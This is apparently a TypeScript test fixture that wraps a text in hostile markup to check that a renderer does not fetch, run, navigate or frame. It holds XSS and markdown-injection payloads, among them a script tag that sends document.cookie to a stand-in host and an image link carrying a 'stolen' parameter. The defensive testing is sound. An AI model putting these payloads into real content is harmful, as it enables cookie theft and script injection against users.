/** What a reading must never do to the page that shows it: fetch, run, navigate or frame. */
const payloads = [
  '<img src="https://hostile.example/pixel.png" onerror="alert(1)">',
  '![a picture](https://hostile.example/picture.png?stolen=secret)',
  '[Click here for your prize](javascript:alert(1))',
  '[A link](https://hostile.example/phishing)',
  '<iframe src="https://hostile.example/frame"></iframe>',
  '<script>fetch("https://hostile.example/script?" + document.cookie)</script>',
  '<svg onload="alert(1)"><style>@import "https://hostile.example/style.css"</style></svg>',
  'https://hostile.example/auto-link',
]

/** The reading with hostile markup between its paragraphs. */
export function hostileReading(reading: string): string {
  const [first = '', ...rest] = reading.split('\n\n')
  return [first, ...payloads, ...rest].join('\n\n')
}
